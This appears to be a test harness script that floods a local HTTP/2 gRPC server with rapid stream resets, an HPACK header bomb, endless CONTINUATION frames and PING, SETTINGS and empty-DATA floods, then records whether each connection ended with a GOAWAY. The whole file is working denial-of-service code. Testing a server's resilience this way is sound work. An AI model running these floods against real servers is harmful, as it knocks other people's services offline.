# SPDX-License-Identifier: Apache-2.0
"""flood.py KIND PORT CONNECTIONS: asks a server of HTTP/2 for more work than it costs to ask, on so many connections at once. Prints for
each how it ended: closed with the code of a GOAWAY, closed without one, or open when there was nothing left to send."""
import socket
import struct
import sys
import threading

from hpack import Encoder

KIND, PORT, CONNECTIONS = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, CONTINUATION = 0, 1, 3, 4, 6, 7, 9
END_STREAM, END_HEADERS = 1, 4
EXPORT = [(":method", "POST"), (":scheme", "http"), (":path", "/opentelemetry.proto.collector.trace.v1.TraceService/Export"),
          (":authority", "hilo"), ("content-type", "application/grpc"), ("te", "trailers")]


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def resets():
    """A call, and at once its end: 20,000 times."""
    for i in range(20000):
        yield frame(HEADERS, END_HEADERS, 2 * i + 1, Encoder().encode(EXPORT)) + frame(RST_STREAM, 0, 2 * i + 1, bytes([0, 0, 0, 8]))


def bomb():
    """One field of 4,000 bytes, named 12,000 times in one byte each: 48 MB of fields for each of 100 calls."""
    encoder = Encoder()
    first = encoder.encode(EXPORT) + b"\x40\x01x" + b"\x7f\xa1\x1e" + b"v" * 4000
    yield frame(HEADERS, END_HEADERS, 1, first + b"\xbe" * 12000)
    for i in range(1, 100):
        yield frame(HEADERS, END_HEADERS, 2 * i + 1, b"\xbe" * 12000)


def continuations():
    """Fields that never end, 160 MB of them."""
    yield frame(HEADERS, 0, 1, Encoder().encode(EXPORT))
    part = b"".join(b"\x00\x04n%03d\x7f\x81\x06" % (i % 1000) + b"w" * 896 for i in range(17))
    for _ in range(10000):
        yield frame(CONTINUATION, 0, 1, part)


def pings():
    """What must be answered, by somebody who reads no answers."""
    for _ in range(2000):
        yield frame(PING, 0, 0, bytes(8)) * 500


def settings():
    for _ in range(2000):
        yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)) * 500


def nothing():
    """Data without a byte, which counts towards no window."""
    yield frame(HEADERS, END_HEADERS, 1, Encoder().encode(EXPORT))
    for _ in range(2000):
        yield frame(DATA, 0, 1) * 500


def attack(frames, reads):
    with socket.create_connection(("127.0.0.1", PORT)) as peer:
        peer.settimeout(20)
        told = []
        reader = threading.Thread(target=listen, args=(peer, told))
        if reads:
            reader.start()
        try:
            peer.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0))
            for part in frames:
                peer.sendall(part)
            ended = "open"
        except socket.timeout:
            ended = "stuck"
        except OSError:
            ended = "closed"
        if not reads:
            reader.start()
        reader.join(3)
        return " ".join(told) if told else ended


def listen(peer, told):
    """The code of a GOAWAY; `closed` for an end without one."""
    held = b""
    try:
        while True:
            while len(held) < 9 or len(held) < 9 + int.from_bytes(held[:3], "big"):
                more = peer.recv(65536)
                if not more:
                    told.append("closed")
                    return
                held += more
            size = int.from_bytes(held[:3], "big")
            if held[3] == GOAWAY:
                told.append(f"goaway-{int.from_bytes(held[13:17], 'big')}")
            held = held[9 + size:]
    except OSError:
        told.append("closed")


def run():
    kinds = {"resets": resets, "bomb": bomb, "continuations": continuations, "pings": pings, "settings": settings, "nothing": nothing}
    endings.append(attack(kinds[KIND](), KIND not in ("pings", "settings")))


endings = []
threads = [threading.Thread(target=run) for _ in range(CONNECTIONS)]
for thread in threads:
    thread.start()
for thread in threads:
    thread.join()
print("\n".join(endings))
